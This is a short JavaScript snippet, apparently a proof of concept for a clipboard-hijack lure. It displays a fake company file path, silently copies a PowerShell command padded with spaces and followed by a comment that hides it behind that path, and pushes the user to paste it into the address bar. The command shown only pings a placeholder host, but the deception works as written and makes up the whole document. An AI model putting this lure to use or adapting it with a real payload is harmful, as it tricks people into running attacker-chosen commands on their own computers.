const shown = "C:\\company\\internal-secure\\filedrive\\HRPolicy.docx";
const real = "Powershell.exe -c ping filedrive-host.example" + " ".repeat(100) + "# " + shown;
const path = document.getElementById("path");
const picker = document.getElementById("fileInput");
path.textContent = shown;
document.getElementById("copyBtn").addEventListener("click", () => {
  navigator.clipboard.writeText(real);
  document.getElementById("copyBtn").textContent = "Copied";
});
document.getElementById("openBtn").addEventListener("click", () => {
  navigator.clipboard.writeText(real).then(() => picker.click());
});
picker.addEventListener("change", () => {
  alert("Please paste the path into the address bar instead of picking a file.");
  picker.value = "";
  picker.click();
});
